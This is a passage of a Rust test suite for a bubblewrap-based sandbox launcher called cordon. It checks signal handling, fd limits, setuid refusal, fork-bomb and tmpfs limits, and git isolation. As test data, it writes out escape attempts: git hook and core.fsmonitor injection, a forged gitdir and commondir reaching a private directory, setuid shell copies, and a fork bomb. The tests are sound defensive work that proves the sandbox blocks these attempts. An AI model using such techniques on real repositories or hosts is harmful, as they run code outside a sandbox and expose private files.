    assert_eq!(out.status.code(), Some(125), "{err}");
    assert!(err.contains(".ssh"), "{err}");
}

/// Start `c` with RLIMIT_NOFILE (soft and hard) at `n`.
fn limit_nofile(c: &mut Command, n: u64) {
    use std::os::unix::process::CommandExt;
    // SAFETY: between fork and exec; setrlimit is async-signal-safe and only
    // reads a struct on this closure's stack.
    unsafe {
        c.pre_exec(move || {
            let rl = libc::rlimit {
                rlim_cur: n,
                rlim_max: n,
            };
            if libc::setrlimit(libc::RLIMIT_NOFILE, &rl) != 0 {
                return Err(std::io::Error::last_os_error());
            }
            Ok(())
        });
    }
}

/// Each hidden file is one fd passed to bwrap. Hundreds of them fit under a
/// soft RLIMIT_NOFILE of 512 (before, the launcher needed two fds per mask
/// and failed with a bare EMFILE past ≈ 250), and past the limit the run is
/// refused with one line naming the fix, before anything starts.
#[test]
fn many_hidden_files_fit_under_the_fd_limit_or_are_refused_clearly() {
    let ws = workspace();
    let outside = tempfile::tempdir().unwrap();
    std::fs::set_permissions(outside.path(), PermissionsExt::from_mode(0o755)).unwrap();
    let files: Vec<String> = (0..400)
        .map(|i| {
            let f = outside.path().join(format!("f{i}"));
            std::fs::write(&f, format!("HIDDEN-{i}\n")).unwrap();
            std::fs::set_permissions(&f, PermissionsExt::from_mode(0o644)).unwrap();
            f.to_str().unwrap().to_string()
        })
        .collect();
    let o = outside.path().to_str().unwrap();
    let script = format!("cat {o}/f0 {o}/f399; echo done");
    let run_with = |nofile: u64, hide: bool| {
        let mut args = vec!["run", "--workspace", ws.path().to_str().unwrap(), "--ro", o];
        if hide {
            for f in &files {
                args.extend(["--hide", f.as_str()]);
            }
        }
        args.extend(["--", "sh", "-c", &script]);
        let mut c = cmd();
        c.args(&args);
        limit_nofile(&mut c, nofile);
        c.output().unwrap()
    };
    let out = run_with(512, true);
    let stdout = String::from_utf8_lossy(&out.stdout);
    assert_eq!(out.status.code(), Some(0), "{out:?}");
    assert_eq!(stdout, "done\n", "{out:?}");
    // Too many for the limit: one line, exit 125, the command never ran.
    let out = run_with(256, true);
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert_eq!(out.status.code(), Some(125), "{out:?}");
    assert_eq!(stderr.lines().count(), 1, "{stderr}");
    assert!(stderr.contains(" for hidden files, one each"), "{stderr}");
    assert!(stderr.contains("RLIMIT_NOFILE of 256"), "{stderr}");
    assert!(out.stdout.is_empty(), "{out:?}");
    // Control: unhidden, the same files are readable under the same limit.
    let out = run_with(256, false);
    let stdout = String::from_utf8_lossy(&out.stdout);
    assert!(
        stdout.contains("HIDDEN-0") && stdout.contains("HIDDEN-399"),
        "{out:?}"
    );
}

/// Started as a background job of an interactive terminal (`cordon run … &`
/// with job control), the launcher finishes instead of being stopped by
/// SIGTTOU when it puts the terminal's settings back (it leaves them to the
/// foreground job). Before, `wait` saw the job stop: status 150.
#[test]
fn background_job_on_a_terminal_is_not_stopped() {
    use std::io::Read;
    use std::os::unix::process::CommandExt;
    let ws = workspace();
    let pty = nix::pty::openpty(None, None).unwrap();
    let io = |f: &std::os::fd::OwnedFd| Stdio::from(f.try_clone().unwrap());
    let helper = helper();
    let sha = helper_sha();
    let script = r#"set -m; "$@" & p=$!; wait $p; echo "rc=$?"; kill -9 $p 2>/dev/null; exit 0"#;
    let mut c = Command::new("/bin/sh");
    c.args(["-c", script, "sh"])
        .arg(cordon_bin())
        .args([
            "run",
            "--workspace",
            ws.path().to_str().unwrap(),
            "--",
            "true",
        ])
        .env("CORDON_HELPER", &helper)
        .env("CORDON_HELPER_SHA256", &sha)
        .env_remove("CORDON_BWRAP")
        .stdin(io(&pty.slave))
        .stdout(io(&pty.slave))
        .stderr(io(&pty.slave));
    // SAFETY: between fork and exec; setsid and ioctl are async-signal-safe
    // and touch no memory of ours.
    unsafe {
        c.pre_exec(|| {
            if libc::setsid() < 0 || libc::ioctl(0, libc::TIOCSCTTY, 0) < 0 {
                return Err(std::io::Error::last_os_error());
            }
            Ok(())
        });
    }
    let mut child = c.spawn().unwrap();
    // Our copies of the terminal's slave side, or the read below never
    // sees the end of the session.
    drop(c);
    drop(pty.slave);
    let mut master = std::fs::File::from(pty.master);
    let mut out = Vec::new();
    let mut buf = [0u8; 4096];
    let deadline = Instant::now() + Duration::from_secs(30);
    // EIO once the session's last process has closed the terminal.
    while let Ok(n) = master.read(&mut buf) {
        if n == 0 || Instant::now() > deadline {
            break;
        }
        out.extend_from_slice(&buf[..n]);
    }
    assert!(child.wait().unwrap().success());
    let out = String::from_utf8_lossy(&out);
    assert!(out.contains("rc=0"), "{out}");
}

/// Spawn `cordon run` in a process group of its own with `sig` ignored, as
/// a caller may start it.
fn spawn_ignoring(sig: libc::c_int, ws: &Path, script: &str) -> std::process::Child {
    spawn_run(sig, false, &[], ws, script)
}

/// `cordon run EXTRA… --workspace WS -- sh -c SCRIPT` with `sig` ignored (0:
/// none), in a process group of its own, or in a session of its own (`setsid`:
/// an orphaned process group).
fn spawn_run(
    sig: libc::c_int,
    setsid: bool,
    extra: &[&str],
    ws: &Path,
    script: &str,
) -> std::process::Child {
    use std::os::unix::process::CommandExt;
    let mut c = cmd();
    c.arg("run")
        .args(extra)
        .args([
            "--workspace",
            ws.to_str().unwrap(),
            "--",
            "sh",
            "-c",
            script,
        ])
        .stdout(Stdio::piped())
        .stderr(Stdio::piped());
    // SAFETY: between fork and exec; setpgid, setsid and signal are
    // async-signal-safe and install no handler of ours.
    unsafe {
        c.pre_exec(move || {
            let r = if setsid {
                libc::setsid()
            } else {
                libc::setpgid(0, 0)
            };
            if r < 0 {
                return Err(std::io::Error::last_os_error());
            }
            // Hermetic: the test runner itself may have been started with
            // some of these ignored (a background job of a script ignores
            // SIGINT and SIGQUIT), and cordon keeps what it inherits.
            for s in [
                libc::SIGINT,
                libc::SIGQUIT,
                libc::SIGTERM,
                libc::SIGHUP,
                libc::SIGTSTP,
            ] {
                libc::signal(s, libc::SIG_DFL);
            }
            if sig != 0 {
                libc::signal(sig, libc::SIG_IGN);
            }
            Ok(())
        });
    }
    c.spawn().unwrap()
}

/// Wait at most 30 s for `child`; its exit status and stdout.
fn wait_bounded(mut child: std::process::Child) -> (std::process::ExitStatus, String) {
    use std::io::Read;
    let start = Instant::now();
    let st = loop {
        if let Some(st) = child.try_wait().unwrap() {
            break st;
        }
        if start.elapsed() > Duration::from_secs(30) {
            // SAFETY: kill on our own child's process group.
            unsafe { libc::kill(-(child.id() as i32), libc::SIGKILL) };
            let _ = child.wait();
            panic!("cordon still running after 30 s");
        }
        std::thread::sleep(Duration::from_millis(10));
    };
    let mut out = String::new();
    child
        .stdout
        .take()
        .unwrap()
        .read_to_string(&mut out)
        .unwrap();
    (st, out)
}

/// A caller that ignores SIGCHLD (the kernel then reaps its children's
/// children for them) still gets the command's status and output. Before,
/// bwrap inherited the ignore and the run hung.
#[test]
fn sigchld_ignored_by_the_caller_still_completes() {
    let ws = workspace();
    let (st, out) = wait_bounded(spawn_ignoring(
        libc::SIGCHLD,
        ws.path(),
        "echo child-ok; exit 3",
    ));
    assert_eq!(st.code(), Some(3), "{out}");
    assert_eq!(out, "child-ok\n");
}

/// `nohup cordon run …`: a hangup of the terminal (SIGHUP to the launcher's
/// process group) does not end a run whose caller ignores SIGHUP. Before,
/// the launcher caught it anyway and tore the sandbox down. Control: not
/// ignored, the same hangup ends the run.
#[test]
fn sighup_ignored_by_the_caller_stays_ignored() {
    let ws = workspace();
    let hangup = |ignore: bool| {
        let child = spawn_ignoring(
            if ignore { libc::SIGHUP } else { 0 },
            ws.path(),
            "sleep 1; echo survived",
        );
        std::thread::sleep(Duration::from_millis(400));
        // SAFETY: kill on our own child's process group.
        unsafe { libc::kill(-(child.id() as i32), libc::SIGHUP) };
        wait_bounded(child)
    };
    let (st, out) = hangup(true);
    assert!(st.success(), "{st:?} {out}");
    assert_eq!(out, "survived\n");
    let (st, out) = hangup(false);
    assert!(!st.success(), "{st:?} {out}");
    assert!(!out.contains("survived"), "{out}");
}

/// Installed setuid root, cordon would plan as root for any user who runs
/// it (`--uid 0`, root's files): it refuses to start. Only root can make
/// such a copy, so this runs in the root pass. Control: the same copy
/// without the setuid bit runs the command for that user.
#[test]
fn setuid_install_is_refused() {
    use std::os::unix::process::CommandExt;
    if !is_root() {
        eprintln!("setuid_install_is_refused: needs root to make a setuid-root copy; covered by the root pass");
        return;
    }
    let dir = tempfile::tempdir().unwrap();
    std::fs::set_permissions(dir.path(), PermissionsExt::from_mode(0o755)).unwrap();
    let copy = dir.path().join("cordon");
    // Copied by `cp` in a process of its own: a write fd held here could
    // leak into a child another test thread forks, and executing the copy
    // would then fail with ETXTBSY.
    assert!(Command::new("cp")
        .arg("--")
        .arg(cordon_bin())
        .arg(&copy)
        .status()
        .unwrap()
        .success());
    let ws = tempfile::tempdir().unwrap();
    std::os::unix::fs::chown(ws.path(), Some(1001), Some(1001)).unwrap();
    let run_as_user = |mode: u32| {
        std::fs::set_permissions(&copy, PermissionsExt::from_mode(mode)).unwrap();
        Command::new(&copy)
            .args([
                "run",
                "--workspace",
                ws.path().to_str().unwrap(),
                "--",
                "id",
                "-u",
            ])
            .env("CORDON_HELPER", helper())
            .env("CORDON_HELPER_SHA256", helper_sha())
            .env("HOME", ws.path())
            .env_remove("CORDON_BWRAP")
            .current_dir(ws.path())
            .uid(1001)
            .gid(1001)
            .output()
            .unwrap()
    };
    let out = run_as_user(0o4755);
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert_eq!(out.status.code(), Some(125), "{out:?}");
    assert!(
        stderr.starts_with("cordon: error: refusing to run setuid"),
        "{stderr}"
    );
    assert_eq!(stderr.lines().count(), 1, "{stderr}");
    assert!(out.stdout.is_empty(), "{out:?}");
    let out = run_as_user(0o755);
    assert_eq!(out.status.code(), Some(0), "{out:?}");
    assert_eq!(String::from_utf8_lossy(&out.stdout), "1001\n", "{out:?}");
}

/// The state letter of `pid` in /proc/PID/stat (`T` when stopped).
fn proc_state(pid: u32) -> Option<char> {
    let stat = std::fs::read_to_string(format!("/proc/{pid}/stat")).ok()?;
    stat[stat.rfind(')')? + 1..].trim_start().chars().next()
}

/// `cordon run` of a command that appends a line to `WS/ticks` every 20 ms
/// until stopped; returns the launcher and the ticks file.
fn spawn_ticking(ws: &Path) -> (std::process::Child, PathBuf) {
    let ticks = ws.join("ticks");
    let script = format!(
        "while :; do echo . >> {}; sleep 0.02; done",
        ticks.display()
    );
    (spawn_ignoring(0, ws, &script), ticks)
}

/// Ctrl-Z (SIGTSTP to the launcher) suspends the whole run: the command
/// stops too, instead of running on (and reading the terminal the shell has
/// taken back) while the run looks suspended. SIGCONT resumes it. Before,
/// the command's ticks kept coming while the launcher was stopped.
#[test]
fn sigtstp_suspends_the_sandbox_and_sigcont_resumes_it() {
    let ws = workspace();
    let (child, ticks) = spawn_ticking(ws.path());
    let pid = child.id();
    let size = || std::fs::metadata(&ticks).map(|m| m.len()).unwrap_or(0);
    let (frozen, stopped_growth) = growth_while_suspended(pid, &ticks);
    signal_and_settle(pid, libc::SIGCONT);
    let start = Instant::now();
    while size() <= frozen + stopped_growth + 4 {
        assert!(start.elapsed() < Duration::from_secs(10), "never resumed");
        std::thread::sleep(Duration::from_millis(10));
    }
    terminate(child);
    assert_eq!(stopped_growth, 0, "the command ran on while suspended");
}

/// Ctrl-\ (SIGQUIT) tears the run down like Ctrl-C: exit 131, nothing of
/// the sandbox left. Before, the launcher died of the signal itself (a core
/// dump of its memory, the caller's environment included, where core dumps
/// are enabled).
#[test]
fn sigquit_tears_down_like_sigint() {
    let ws = workspace();
    let (child, ticks) = spawn_ticking(ws.path());
    wait_for_file(&ticks);
    signal_and_settle(child.id(), libc::SIGQUIT);
    let (st, _) = wait_bounded(child);
    assert_eq!(st.code(), Some(128 + libc::SIGQUIT), "{st:?}");
    let size = std::fs::metadata(&ticks).unwrap().len();
    std::thread::sleep(Duration::from_millis(200));
    assert_eq!(
        std::fs::metadata(&ticks).unwrap().len(),
        size,
        "still running"
    );
}

/// Wait until `path` exists (10 s at most).
fn wait_for_file(path: &Path) {
    let start = Instant::now();
    while !path.exists() {
        assert!(
            start.elapsed() < Duration::from_secs(10),
            "{} never appeared",
            path.display()
        );
        std::thread::sleep(Duration::from_millis(10));
    }
}

/// Once `ticks` exists, Ctrl-Z the launcher `pid`; the file's size then, and
/// how much it grew in the next 400 ms (0 when the whole run is stopped).
fn growth_while_suspended(pid: u32, ticks: &Path) -> (u64, u64) {
    wait_for_file(ticks);
    signal_and_settle(pid, libc::SIGTSTP);
    let size = || std::fs::metadata(ticks).unwrap().len();
    let frozen = size();
    std::thread::sleep(Duration::from_millis(400));
    (frozen, size() - frozen)
}

/// End a run with SIGTERM to the launcher: it tears the sandbox down and
/// exits 128 + SIGTERM.
fn terminate(child: std::process::Child) {
    signal_and_settle(child.id(), libc::SIGTERM);
    let (st, _) = wait_bounded(child);
    assert_eq!(st.code(), Some(128 + libc::SIGTERM));
}

/// Send `sig` to `pid` and, for SIGTSTP, wait until it is stopped.
fn signal_and_settle(pid: u32, sig: libc::c_int) {
    // SAFETY: kill on our own child.
    unsafe { libc::kill(pid as i32, sig) };
    if sig == libc::SIGTSTP {
        let start = Instant::now();
        while proc_state(pid) != Some('T') {
            assert!(
                start.elapsed() < Duration::from_secs(10),
                "launcher never stopped"
            );
            std::thread::sleep(Duration::from_millis(5));
        }
        std::thread::sleep(Duration::from_millis(100));
    }
}

/// Without a pid namespace (`--layers inner`) a command can leave its
/// process tree (setsid and a double fork): the launcher, as subreaper,
/// inherits it, and Ctrl-Z stops it too. Found by the red-team: it ran on.
#[test]
fn sigtstp_stops_processes_reparented_to_the_launcher() {
    let ws = workspace();
    let ticks = ws.path().join("ticks");
    let script = format!(
        "(setsid sh -c 'while :; do echo . >> {}; sleep 0.02; done' &); sleep 100",
        ticks.display()
    );
    let child = spawn_run(0, false, &["--layers", "inner"], ws.path(), &script);
    let pid = child.id();
    let (_, growth) = growth_while_suspended(pid, &ticks);
    signal_and_settle(pid, libc::SIGCONT);
    terminate(child);
    assert_eq!(growth, 0, "the reparented process ran on while suspended");
}

/// A process the command stopped itself stays stopped after Ctrl-Z and
/// `fg`: the launcher continues only what it stopped.
#[test]
fn sigtstp_leaves_processes_stopped_by_the_command_stopped() {
    let ws = workspace();
    let w = ws.path().display();
    let script = format!(
        "sleep 30 & p=$!; kill -STOP $p; touch {w}/ready; \
         while [ ! -e {w}/go ]; do sleep 0.05; done; \
         grep State /proc/$p/status > {w}/state; kill -9 $p"
    );
    let child = spawn_ignoring(0, ws.path(), &script);
    let pid = child.id();
    wait_for_file(&ws.path().join("ready"));
    signal_and_settle(pid, libc::SIGTSTP);
    signal_and_settle(pid, libc::SIGCONT);
    std::fs::write(ws.path().join("go"), "").unwrap();
    let (st, _) = wait_bounded(child);
    assert!(st.success(), "{st:?}");
    let state = std::fs::read_to_string(ws.path().join("state")).unwrap();
    assert!(state.contains("T (stopped)"), "{state}");
}

/// SIGTSTP to a launcher whose process group is orphaned (no shell to
/// continue it) is discarded, as the kernel discards it for any program
/// there: the run goes on and its --timeout still fires. Found by the
/// red-team: the run stayed stopped for good.
#[test]
fn sigtstp_in_an_orphaned_process_group_is_ignored() {
    let ws = workspace();
    let child = spawn_run(0, true, &["--timeout", "2"], ws.path(), "sleep 30");
    let pid = child.id();
    std::thread::sleep(Duration::from_millis(500));
    // SAFETY: kill on our own child.
    unsafe { libc::kill(pid as i32, libc::SIGTSTP) };
    let start = Instant::now();
    let (st, _) = wait_bounded(child);
    assert_eq!(st.code(), Some(124), "{st:?}");
    assert!(start.elapsed() < Duration::from_secs(10));
}

/// Under a soft RLIMIT_NOFILE too small for any run, the refusal is the
/// same one line naming the limit, not a bare `dup` or `pipe` errno (what
/// the red-team saw at 8 and at 19–21).
#[test]
fn tiny_fd_limits_are_refused_in_one_clear_line() {
    let ws = workspace();
    for n in [8u64, 12, 16, 19, 20, 21] {
        let mut c = run_in(ws.path(), &["true"]);
        limit_nofile(&mut c, n);
        let out = c.output().unwrap();
        if out.status.success() {
            continue; // enough at this limit
        }
        let stderr = String::from_utf8_lossy(&out.stderr);
        assert_eq!(out.status.code(), Some(125), "{n}: {stderr}");
        assert_eq!(stderr.lines().count(), 1, "{n}: {stderr}");
        assert!(
            stderr.contains(&format!("RLIMIT_NOFILE of {n}; raise it (ulimit -n)")),
            "{n}: {stderr}"
        );
    }
}

/// A command cannot leave a setuid or setgid file in the workspace: on the
/// host, outside the sandbox's NO_NEW_PRIVS, such a file runs as its owner
/// (the caller, or the sandbox uid) for anyone who can reach it. The inner
/// layer's default profile refuses the bits; the control (`--layers outer`,
/// bwrap alone) shows the same commands land them.
#[test]
fn no_setuid_or_setgid_files_in_the_workspace() {
    let script = "cp /bin/sh sh_copy; chmod 4755 sh_copy 2>/dev/null; echo chmod=$?; \
                  chmod g+s sh_copy 2>/dev/null; echo chmod_g=$?; \
                  install -m 6755 /bin/sh installed 2>/dev/null; echo install=$?; \
                  chmod 1755 sh_copy && echo plain=ok";
    for (layers, blocked) in [("both", true), ("outer", false)] {
        let ws = workspace();
        let (v, code) = json_run(ws.path(), &["--layers", layers], &["sh", "-c", script]);
        assert_eq!(code, 0, "{layers}: {v}");
        let out = stdout_of(&v);
        let bits = |name: &str| {
            std::fs::metadata(ws.path().join(name))
                .map(|m| m.mode() & 0o6000)
                .unwrap_or(0)
        };
        if blocked {
            for line in ["chmod=1", "chmod_g=1", "install=1", "plain=ok"] {
                assert!(out.contains(line), "{layers}: {line} in {v}");
            }
            assert_eq!(bits("sh_copy"), 0, "{layers}: setid bits on the host");
            assert_eq!(bits("installed"), 0, "{layers}: setid bits on the host");
            let m = std::fs::metadata(ws.path().join("sh_copy")).unwrap();
            assert_eq!(m.mode() & 0o7777, 0o1755, "ordinary modes still apply");
        } else {
            for line in ["chmod=0", "chmod_g=0", "install=0", "plain=ok"] {
                assert!(out.contains(line), "{layers}: {line} in {v}");
            }
            assert_eq!(bits("installed"), 0o6000, "control: {v}");
        }
    }
}

/// A checkout's `.git` is read-only in the sandbox: git runs its hooks and
/// the commands its config names (`core.fsmonitor`, `core.pager`, …) on the
/// host, so a command that could write them would run code outside the
/// sandbox the next time anyone used git there. The rest of the workspace
/// stays writable, and `--git rw` (the control) gives the old behaviour, where
/// every write lands. bwrap holds it alone, so `--layers outer` holds too.
/// Before, every write below landed on the host.
#[test]
fn git_hooks_and_config_stay_out_of_reach() {
    use std::os::unix::fs::MetadataExt;
    let script = "printf '#!/bin/sh\\ntouch /tmp/pwned\\n' > .git/hooks/pre-commit 2>/dev/null; echo hook=$?; \
                  printf '[core]\\n\\tfsmonitor = touch /tmp/pwned\\n' >> .git/config 2>/dev/null; echo config=$?; \
                  mv .git .git-old 2>/dev/null; echo rename=$?; \
                  echo 'gitdir: /tmp/evil' > sub/.git 2>/dev/null; echo gitfile=$?; \
                  echo work > notes.txt && echo workspace=ok";
    let config = "[core]\n\trepositoryformatversion = 0\n";
    for (extra, blocked) in [
        (&["--layers", "both"][..], true),
        (&["--layers", "outer"][..], true),
        (&["--git", "rw"][..], false),
    ] {
        let ws = workspace();
        let root = ws.path();
        std::fs::create_dir_all(root.join(".git/hooks")).unwrap();
        std::fs::write(root.join(".git/config"), config).unwrap();
        std::fs::create_dir(root.join("sub")).unwrap();
        std::fs::write(root.join("sub/.git"), "gitdir: ../.git\n").unwrap();
        if is_root() {
            for p in [".git", ".git/hooks", ".git/config", "sub", "sub/.git"] {
                std::os::unix::fs::chown(root.join(p), Some(65534), Some(65534)).unwrap();
            }
        }
        let sub = root.join("sub");
        let mut args = extra.to_vec();
        args.extend(["--rw", sub.to_str().unwrap()]);
        let (v, code) = json_run(root, &args, &["sh", "-c", script]);
        assert_eq!(code, 0, "{extra:?}: {v}");
        let out = stdout_of(&v);
        assert!(out.contains("workspace=ok"), "{extra:?}: {v}");
        let hook = root.join(".git/hooks/pre-commit");
        let gitfile = std::fs::read_to_string(root.join("sub/.git")).unwrap();
        if blocked {
            for line in ["hook=2", "config=2", "rename=1", "gitfile=2"] {
                assert!(out.contains(line), "{extra:?}: {line} in {v}");
            }
            assert!(!hook.exists(), "{extra:?}: a hook landed on the host");
            assert_eq!(
                std::fs::read_to_string(root.join(".git/config")).unwrap(),
                config
            );
            assert!(root.join(".git").is_dir() && !root.join(".git-old").exists());
            assert_eq!(gitfile, "gitdir: ../.git\n");
        } else {
            for line in ["hook=0", "config=0", "rename=0", "gitfile=0"] {
                assert!(out.contains(line), "{extra:?}: {line} in {v}");
            }
            let old = root.join(".git-old");
            assert!(old.join("hooks/pre-commit").exists(), "control: {v}");
            assert!(std::fs::read_to_string(old.join("config"))
                .unwrap()
                .contains("fsmonitor"));
            assert_eq!(gitfile, "gitdir: /tmp/evil\n");
        }
        // The workspace itself stayed writable, by the sandbox's uid.
        let m = std::fs::metadata(root.join("notes.txt")).unwrap();
        assert_eq!(m.size(), 5);
    }
}

/// The same for the repository the command starts in (`--cwd`) when it is
/// nested in the workspace: its `.git` is looked up, not scanned for.
#[test]
fn git_dir_of_the_starting_repository_is_read_only() {
    for (git, blocked) in [("ro", true), ("rw", false)] {
        let ws = workspace();
        let proj = ws.path().join("proj");
        std::fs::create_dir_all(proj.join(".git/hooks")).unwrap();
        if is_root() {
            for p in [&proj, &proj.join(".git"), &proj.join(".git/hooks")] {
                std::os::unix::fs::chown(p, Some(65534), Some(65534)).unwrap();
            }
        }
        let (v, code) = json_run(
            ws.path(),
            &["--git", git, "--cwd", proj.to_str().unwrap()],
            &["sh", "-c", "echo x > .git/hooks/pre-commit 2>/dev/null; echo hook=$?; echo y > f && echo proj=ok"],
        );
        assert_eq!(code, 0, "{git}: {v}");
        let out = stdout_of(&v);
        assert!(out.contains("proj=ok"), "{git}: {v}");
        let landed = proj.join(".git/hooks/pre-commit").exists();
        if blocked {
            assert!(out.contains("hook=2") && !landed, "{git}: {v}");
        } else {
            assert!(out.contains("hook=0") && landed, "control: {v}");
        }
    }
}

/// The scratch tmpfs (/tmp, HOME, /dev/shm) are sized: their pages are host
/// memory that the OOM killer does not charge to the writer, and the
/// kernel's default is half the RAM each. Past the size a write gets ENOSPC.
/// bwrap holds it alone (`--layers outer` too); the control, `--tmpfs-size
/// unlimited`, writes the same 16 MiB everywhere.
#[test]
fn scratch_tmpfs_are_bounded() {
    let script = "for d in /tmp \"$HOME\" /dev/shm; do \
                    dd if=/dev/zero of=\"$d/fill\" bs=1M count=16 2>/dev/null; echo \"$d=$? $(wc -c < \"$d/fill\")\"; \
                  done";
    for (extra, bounded) in [
        (&["--tmpfs-size", "8M", "--layers", "both"][..], true),
        (&["--tmpfs-size", "8M", "--layers", "outer"][..], true),
        (&["--tmpfs-size", "unlimited"][..], false),
    ] {
        let ws = workspace();
        let (v, code) = json_run(ws.path(), extra, &["sh", "-c", script]);
        assert_eq!(code, 0, "{extra:?}: {v}");
        let out = stdout_of(&v);
        for d in ["/tmp", "/home/sandbox", "/dev/shm"] {
            let want = if bounded {
                format!("{d}=1 8388608")
            } else {
                format!("{d}=0 16777216")
            };
            assert!(out.contains(&want), "{extra:?}: {want} in {v}");
        }
    }
}

/// A fork bomb stops at the default task limit (4096): without one it takes
/// every pid of the host (`kernel.pid_max` is 32 768 here) until the run is
/// killed. Inside bwrap's user namespace the kernel counts the limit per
/// namespace, so the uid's processes outside do not count (as cordon-test
/// this run's own 200 host processes prove it). The control, `--layers
/// outer` (bwrap sets no rlimits), forks all 4 200.
#[test]
fn fork_bomb_stops_at_the_task_limit() {
    let probe = PathBuf::from(
        std::env::var_os("CORDON_PROBE_BIN").expect("CORDON_PROBE_BIN (scripts/build)"),
    );
    let ws = workspace();
    // cp in a process of its own: no write fd of ours can leak into a fork.
    let st = Command::new("cp")
        .arg(&probe)
        .arg(ws.path().join("probe"))
        .status()
        .unwrap();
    assert!(st.success());
    let mut host: Vec<std::process::Child> = (0..200)
        .map(|_| Command::new("sleep").arg("30").spawn().unwrap())
        .collect();
    let run = |layers: &str| {
        let (v, code) = json_run(
            ws.path(),
            &["--layers", layers],
            &["./probe", "fork-bomb", "4200"],
        );
        (stdout_of(&v), code, v)
    };
    let (out, _, v) = run("both");
    let (ctl, _, cv) = run("outer");
    for c in &mut host {
        let _ = c.kill();
        let _ = c.wait();
    }
    let forked: usize = out
        .strip_prefix("DENIED EAGAIN fork failed after ")
        .and_then(|r| r.split(' ').next())
        .and_then(|n| n.parse().ok())
        .unwrap_or_else(|| panic!("not stopped by EAGAIN: {v}"));
    assert!((4000..4096).contains(&forked), "forked {forked}: {v}");
    assert!(
        ctl.starts_with("ALLOWED forked 4200 children"),
        "control: {cv}"
    );
}

/// The sandbox's root and /dev are tmpfs that bwrap makes and the sandbox
/// uid owns: read-only here, so nothing can be stored there (unbounded
/// memory, and a place the inner layer alone would have to guard). The
/// control is plain bwrap with the same kind of root, where the writes land.
#[test]
fn sandbox_root_and_dev_are_read_only() {
    let script =
        "touch /junk 2>/dev/null; echo root=$?; mkdir /newdir 2>/dev/null; echo mkdir=$?; \
                  touch /dev/junk 2>/dev/null; echo dev=$?; echo x > /dev/null && echo null=ok";
    for layers in ["both", "outer"] {
        let ws = workspace();
        let (v, code) = json_run(ws.path(), &["--layers", layers], &["sh", "-c", script]);
        assert_eq!(code, 0, "{layers}: {v}");
        let out = stdout_of(&v);
        for line in ["root=1", "mkdir=1", "dev=1", "null=ok"] {
            assert!(out.contains(line), "{layers}: {line} in {v}");
        }
    }
    let out = Command::new("bwrap")
        .args([
            "--unshare-all",
            "--ro-bind",
            "/usr",
            "/usr",
            "--symlink",
            "usr/bin",
            "/bin",
        ])
        .args([
            "--symlink",
            "usr/lib",
            "/lib",
            "--symlink",
            "usr/lib64",
            "/lib64",
            "--dev",
            "/dev",
        ])
        .args(["--", "sh", "-c", script])
        .output()
        .unwrap();
    let stdout = String::from_utf8_lossy(&out.stdout);
    for line in ["root=0", "mkdir=0", "dev=0", "null=ok"] {
        assert!(stdout.contains(line), "control: {line} in {stdout}");
    }
}

fn git(dir: &Path, args: &[&str]) -> String {
    let out = Command::new("git")
        .args(["-c", "user.name=t", "-c", "user.email=t@example.invalid"])
        .args(["-c", "safe.directory=*"]) // as root, after the chown to the sandbox uid
        .args(args)
        .current_dir(dir)
        .output()
        .expect("git (scripts/setup installs it)");
    assert!(
        out.status.success(),
        "git {args:?}: {}",
        String::from_utf8_lossy(&out.stderr)
    );
    String::from_utf8_lossy(&out.stdout).trim().to_string()
}

/// A linked worktree: its `.git` file names a git directory inside the main
/// repository's `.git`, outside the workspace. Nothing a `.git` file names
/// is mounted on its word: a command can write one, and a git directory
/// that names it back, in runs with other workspaces, and was then shown any
/// directory of the host (a red-team finding: `commondir` naming the home).
/// So git finds the repository only when the caller names it: `--ro
/// MAIN/.git` reads (commits fail), `--git rw --rw MAIN/.git` (the control)
/// commits.
#[test]
fn linked_worktree_git_shows_only_what_is_named() {
    let root = workspace();
    let main = root.path().join("main");
    std::fs::create_dir(&main).unwrap();
    git(&main, &["init", "-q"]);
    git(&main, &["commit", "-q", "--allow-empty", "-m", "first"]);
    git(&main, &["worktree", "add", "-q", "../wt"]);
    // The forgery: a git directory elsewhere that names `forged/.git` back
    // and whose `commondir` is a private directory.
    let forged = root.path().join("forged");
    let fake = root.path().join("fake");
    let private = root.path().join("private");
    for d in [&forged, &fake, &private] {
        std::fs::create_dir(d).unwrap();
    }
    std::fs::write(private.join("notes.txt"), "TOP-SECRET\n").unwrap();
    std::fs::write(forged.join(".git"), format!("gitdir: {}\n", fake.display())).unwrap();
    std::fs::write(fake.join("gitdir"), format!("{}/.git\n", forged.display())).unwrap();
    std::fs::write(fake.join("commondir"), format!("{}\n", private.display())).unwrap();
    chown_to_sandbox(root.path());
    let wt = root.path().join("wt");
    let head = || git(&wt, &["rev-parse", "HEAD"]);
    let before = head();
    let main_git = main.join(".git");
    let commit = "git log --format=%s 2>&1; git -c user.name=t -c user.email=t@example.invalid commit -q --allow-empty -m second 2>&1; echo commit=$?";

    let (v, code) = json_run(&wt, &[], &["sh", "-c", commit]);
    assert_eq!(code, 0, "{v}");
    let out = stdout_of(&v);
    assert!(out.contains("not a git repository"), "{v}");
    assert!(
        v["notes"]
            .to_string()
            .contains(&format!("pass --ro {}", main_git.display())),
        "{v}"
    );

    let (v, code) = json_run(
        &wt,
        &["--ro", main_git.to_str().unwrap()],
        &["sh", "-c", commit],
    );
    assert_eq!(code, 0, "{v}");
    let out = stdout_of(&v);
    assert!(out.starts_with("first\n"), "git reads its repository: {v}");
    assert!(
        out.contains("Read-only file system") && out.contains("commit=128"),
        "{v}"
    );
    assert_eq!(head(), before, "a commit landed");

    let (v, _) = json_run(
        &forged,
        &[],
        &[
            "sh",
            "-c",
            &format!(
                "cat {}/notes.txt; echo read=$?; test -e {}; echo seen=$?",
                private.display(),
                fake.display()
            ),
        ],
    );
    let out = stdout_of(&v);
    assert!(
        !out.contains("TOP-SECRET") && out.contains("read=1") && out.contains("seen=1"),
        "a forged .git file showed a host directory: {v}"
    );

    let (v, code) = json_run(
        &wt,
        &["--git", "rw", "--rw", main_git.to_str().unwrap()],
        &["sh", "-c", commit],
    );
    assert_eq!(code, 0, "{v}");
    assert!(stdout_of(&v).contains("commit=0"), "control: {v}");
    assert_ne!(head(), before, "control: no commit");
}

/// `ROOT/ws`: a repository with `ROOT/lib` added as submodule `lib`.
fn checkout_with_submodule(root: &Path) -> PathBuf {
    let lib = root.join("lib");
    let ws = root.join("ws");
    for d in [&lib, &ws] {
        std::fs::create_dir(d).unwrap();
        git(d, &["init", "-q"]);
        git(d, &["commit", "-q", "--allow-empty", "-m", "first"]);
    }
    let add = ["-c", "protocol.file.allow=always", "submodule", "-q", "add"];
